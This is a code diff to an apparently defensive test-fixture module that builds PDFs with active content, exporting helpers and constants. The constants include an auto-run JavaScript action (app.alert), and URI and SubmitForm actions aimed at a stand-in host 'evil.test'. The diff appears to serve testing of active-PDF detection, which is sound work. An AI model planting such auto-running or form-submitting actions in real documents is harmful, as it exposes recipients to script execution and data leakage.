@@ -2,7 +2,7 @@ import { deflateSync } from 'node:zlib'
 import PDFDocument from 'pdfkit'
 
 /** The bytes of a PDF of these objects, numbered from 1; the first is the root. */
-function pdfOfObjects(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
+export function pdfOfObjects(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
   const parts = [Buffer.from('%PDF-1.7\n')]
   for (const [i, object] of objects.entries())
     parts.push(
@@ -29,10 +29,10 @@ function packed(objects: string, { how = '/Filter/FlateDecode', type = '/Type/Ob
   ])
 }
 
-const ROOT = '<</Type/Catalog/Pages 2 0 R>>'
-const PAGES = '<</Type/Pages/Kids[]/Count 0>>'
+export const ROOT = '<</Type/Catalog/Pages 2 0 R>>'
+export const PAGES = '<</Type/Pages/Kids[]/Count 0>>'
 const SCRIPT = '<</Type/Action/S/JavaScript/JS(app.alert\\(1\\))>>'
-const root = (action: string) => `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`
+export const root = (action: string) => `<</Type/Catalog/Pages 2 0 R/OpenAction ${action}>>`
 
 /** What a library writes: a form with fields, and a form of which the fields compute. */
 function form(withScript: boolean): Promise<Buffer> {
@@ -101,12 +101,12 @@ export async function activePdfs(): Promise<Record<string, Buffer>> {
   }
 }
 
-const URI = '<</S/URI/URI(https://evil.test)>>'
+export const URI = '<</S/URI/URI(https://evil.test)>>'
 const SUBMIT = '<</S/SubmitForm/F<</FS/URL/F(https://evil.test)>>>>'
-const JUMP = '<</S/GoTo/D[4 0 R/Fit]>>'
+export const JUMP = '<</S/GoTo/D[4 0 R/Fit]>>'
 
 /** An object stream as a writer packs it: the numbers and places of its objects in front of them. */
-function packedObjects(objects: Record<number, string>, type = '/Type/ObjStm'): Buffer {
+export function packedObjects(objects: Record<number, string>, type = '/Type/ObjStm'): Buffer {
   const bodies = Object.values(objects).join(' ')
   let at = 0
   const index = Object.entries(objects)
